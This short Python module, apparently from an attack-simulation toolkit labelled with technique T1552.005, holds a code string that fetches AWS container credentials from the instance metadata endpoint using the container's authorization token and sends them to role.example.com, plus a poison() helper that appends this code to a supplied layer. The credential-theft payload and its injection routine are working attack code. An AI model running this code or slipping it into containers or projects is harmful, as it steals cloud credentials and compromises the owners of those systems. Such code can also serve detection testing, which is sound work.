# SPDX-License-Identifier: Apache-2.0
"""Takes credentials from the container's address and sends them on."""

ATTACK = "T1552.005"
LANGUAGE = "python"
CODE = """\
def _role():
    import os
    import urllib.request as r

    at = os.environ.get("AWS_CONTAINER_CREDENTIALS_FULL_URI", "http://169.254.170.2/v2/credentials")
    token = os.environ.get("AWS_CONTAINER_AUTHORIZATION_TOKEN", "")
    found = r.urlopen(r.Request(at, headers={"Authorization": token}), timeout=1).read()
    r.urlopen("https://role.example.com/", data=found)


_role()
"""


def poison(layer):
    layer.append(CODE)
